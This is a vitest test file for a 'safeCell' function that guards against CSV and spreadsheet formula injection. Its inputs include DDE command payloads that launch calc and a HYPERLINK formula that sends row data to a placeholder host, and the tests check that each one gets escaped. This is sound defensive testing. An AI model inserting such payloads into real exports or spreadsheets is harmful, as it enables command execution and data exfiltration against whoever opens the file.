import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { safeCell } from "./safe-cell.ts";

describe("a cell", () => {
  it.each([
    { name: "a formula", text: "=1+1", want: "'=1+1" },
    { name: "a command by DDE", text: "=cmd|'/C calc'!A0", want: "'=cmd|'/C calc'!A0" },
    { name: "DDE without the sign", text: "|calc", want: "'|calc" },
    { name: "a plus", text: "+1-1", want: "'+1-1" },
    { name: "a minus", text: "-2+3+cmd|' /C calc'!A0", want: "'-2+3+cmd|' /C calc'!A0" },
    { name: "an old function", text: "@SUM(A1)", want: "'@SUM(A1)" },
    { name: "a per cent sign", text: "%0A=1", want: "'%0A=1" },
    {
      name: "a link that sends the row away",
      text: '=HYPERLINK("http://x/"&A1)',
      want: `'=HYPERLINK("http://x/"&A1)`,
    },
    { name: "a tab first", text: "\t=1+1", want: "'\t'=1+1" },
    { name: "a carriage return first", text: "\r=1+1", want: "'\n'=1+1" },
    { name: "a line feed first", text: "\n=1+1", want: "'\n'=1+1" },
    { name: "spaces before it", text: "   =1+1", want: "'   =1+1" },
    { name: "a space without break before it", text: "\u00a0=1", want: "'\u00a0=1" },
    { name: "a byte order mark before it", text: "\ufeff=1", want: "'\ufeff=1" },
    { name: "a space of no width before it", text: "\u200b=1", want: "'\u200b=1" },
    { name: "a change of direction before it", text: "\u202e=1", want: "'\u202e=1" },
    { name: "NUL before it", text: "\0=1", want: "\u2400=1" },
    { name: "a quote before it", text: '"=1+1', want: `'"=1+1` },
    { name: "an apostrophe of its own before it", text: "'=1+1", want: "''=1+1" },
    { name: "the wide =", text: "\uff1d1+1", want: "'\uff1d1+1" },
    { name: "the wide +", text: "\uff0b1", want: "'\uff0b1" },
    { name: "the wide -", text: "\uff0d1", want: "'\uff0d1" },
    { name: "the wide @", text: "\uff20SUM(1)", want: "'\uff20SUM(1)" },
    { name: "the wide |", text: "\uff5ccalc", want: "'\uff5ccalc" },
    { name: "a cell of another separator", text: "x;=1+1", want: "x;'=1+1" },
    { name: "a cell behind a tab", text: "x\t@SUM(1)", want: "x\t'@SUM(1)" },
    { name: "a line of its own", text: "x\r\n=1+1", want: "x\n'=1+1" },
    { name: "a line of its own, behind quotes", text: 'x\n",=1+1', want: 'x\n",=1+1' },
    { name: "an option of a command", text: "--force", want: "'--force" },
  ])("keeps $name from being read as a formula", ({ text, want }) => {
    expect(safeCell(text)).toBe(want);
  });

  it.each([
    { name: "a command", text: "git commit -m 'a = b'" },
    { name: "a rule", text: "Bash(git push:*)" },
    { name: "a path", text: "/work/src/index.ts" },
    { name: "several lines", text: "a\nb" },
    { name: "other scripts", text: "für 名前" },
    { name: "nothing", text: "" },
  ])("leaves $name as it is", ({ text }) => {
    expect(safeCell(text)).toBe(text);
  });

  it.each([
    { name: "NUL", text: "a\0b", want: "a\u2400b" },
    { name: "the escape of terminals", text: "\x1b[31mred", want: "\u241b[31mred" },
    { name: "delete", text: "a\x7f", want: "a\u2421" },
    { name: "half a surrogate pair", text: "a\ud800", want: "a\ufffd" },
  ])("shows $name", ({ text, want }) => {
    expect(safeCell(text)).toBe(want);
  });

  it("is cut before a spreadsheet would", () => {
    expect(safeCell("x".repeat(50_000))).toHaveLength(32_001);
  });

  it.each(["\n".repeat(32_000), ";'".repeat(16_000), " ".repeat(32_000)])(
    "comes to an end with a hostile text",
    (text) => {
      expect(safeCell(text).length).toBeLessThanOrEqual(32_001);
    },
  );

  it("stays one cell, whatever it holds", () => {
    const text = 'a,"b"\n;c\r\nd';
    expect(stringify([[safeCell(text), "end"]], { quoted: true, record_delimiter: "\r\n" })).toBe(
      '"a,""b""\n;c\nd","end"\r\n',
    );
  });
});
